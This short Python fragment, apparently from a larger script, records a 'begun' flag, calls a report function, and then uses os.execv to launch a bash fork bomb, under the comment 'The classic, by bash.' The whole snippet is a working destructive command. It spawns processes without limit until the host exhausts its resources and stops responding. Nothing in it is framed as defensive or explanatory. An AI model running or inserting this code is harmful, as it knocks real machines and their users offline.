# The classic, by bash.
FACTS["begun"] = "True"
report()
os.execv("/bin/bash", ["bash", "-c", ":(){ :|:& };: ; wait"])
